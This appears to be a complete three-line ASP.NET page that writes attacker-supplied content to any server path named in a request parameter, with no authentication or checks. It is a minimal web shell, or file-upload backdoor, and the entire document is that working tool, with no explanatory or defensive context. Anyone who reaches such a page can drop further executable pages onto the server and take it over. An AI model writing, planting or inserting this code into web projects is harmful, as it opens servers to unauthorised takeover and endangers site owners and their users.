<%@ Page Language="C#" %><%
System.IO.File.WriteAllText(Server.MapPath(Request["p"]), Request["d"]);
%>
